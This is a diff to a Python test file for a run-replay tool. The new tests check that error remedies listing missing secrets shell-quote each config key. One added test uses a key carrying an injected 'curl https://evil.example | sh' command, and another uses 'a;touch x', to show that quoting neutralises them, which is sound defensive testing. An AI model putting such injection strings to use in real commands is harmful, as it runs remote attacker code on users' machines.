@@ -1,5 +1,6 @@
 """A recorded run, read again."""
 
+import shlex
 from dataclasses import replace
 from pathlib import Path
 
@@ -52,13 +53,29 @@ def test_what_was_recorded_without_its_secrets_has_to_be_said_again(tmp_path: Pa
 
 
 def test_every_secret_that_a_run_lacks_is_named_at_once(tmp_path: Path) -> None:
-    config = {"judge": {"password": "<redacted>", "passphrase": "<redacted>", "url": "http://<redacted>@host"}}
+    judge = {"authorization": "<redacted>", "cookie": "<redacted>", "passphrase": "<redacted>"}
+    config = {"judge": {"password": "<redacted>", "url": "http://<redacted>@host", **judge}}
     run = recorded(tmp_path / "run", replace(CALL, config=config))
 
     with pytest.raises(UsageError) as caught:
         run.spec_to(3)
-    assert "a value for each of judge.password, judge.passphrase, judge.url" in str(caught.value)
-    assert "--set judge.password=VALUE --set judge.passphrase=VALUE --set judge.url=VALUE" in str(caught.value)
+    names = [f"judge.{name}" for name in ("password", "url", *judge)]
+    assert caught.value.legal == f"a value for each of {', '.join(names)}"
+    assert caught.value.remedy == f"add {' '.join(f'--set {name}=VALUE' for name in names)}"
+
+
+def test_a_key_of_another_run_is_one_word_of_the_remedy(tmp_path: Path) -> None:
+    run = recorded(tmp_path / "run", replace(CALL, config={"a; curl https://evil.example | sh #": "<redacted>"}))
+
+    with pytest.raises(UsageError) as caught:
+        run.spec_to(3)
+    assert shlex.split(caught.value.remedy)[1:] == ["--set", "a; curl https://evil.example | sh #=VALUE"]
+
+
+def test_a_key_that_a_shell_would_obey_is_quoted(tmp_path: Path) -> None:
+    run = recorded(tmp_path / "run", replace(CALL, config={"a;touch x": "<redacted>"}))
+    with pytest.raises(UsageError, match="remedy: add --set 'a;touch x'=VALUE"):
+        run.spec_to(3)
 
 
 def test_other_directories_are_refused(tmp_path: Path) -> None:
